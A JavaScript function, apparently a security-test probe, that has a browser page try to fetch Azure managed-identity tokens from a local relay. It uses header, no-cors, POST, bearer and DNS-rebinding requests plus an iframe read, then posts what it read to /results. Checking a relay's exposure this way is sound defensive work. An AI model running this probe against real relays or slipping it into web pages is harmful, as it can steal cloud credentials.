// Runs in a page, and asks the relay in every way that a page has. Its last act is to send what it has read.
export async function askAsPage(relay, rebound, key) {
  const scopes = ["https://storage.azure.com/.default"];
  const query = "/msi/token?api-version=2019-08-01&resource=https%3A%2F%2Fstorage.azure.com";
  const bearer = { authorization: `Bearer ${key}`, "content-type": "application/json" };
  const body = JSON.stringify({ version: 1, scopes });
  const read = async (url, options) => {
    try {
      const response = await fetch(url, options);
      return `${response.type} ${response.status} ${await response.text()}`;
    } catch (error) {
      return String(error);
    }
  };
  const frame = document.createElement("iframe");
  const shown = new Promise((resolve) => frame.addEventListener("load", resolve));
  frame.src = relay + query;
  document.body.append(frame);
  await shown;
  const results = [
    await read(relay + query, { headers: { "X-IDENTITY-HEADER": key } }), // asks first, by OPTIONS
    await read(relay + query, { mode: "no-cors" }),
    await read(`${relay}/token`, { method: "POST", mode: "no-cors", body }),
    await read(`${relay}/token`, { method: "POST", headers: bearer, body }),
    await read(rebound + query, { mode: "no-cors" }), // the name of another site, which leads to the relay
    frame.contentDocument?.body.textContent ?? "the page cannot read the frame",
  ];
  await fetch("/results", { method: "POST", body: JSON.stringify(results) });
}
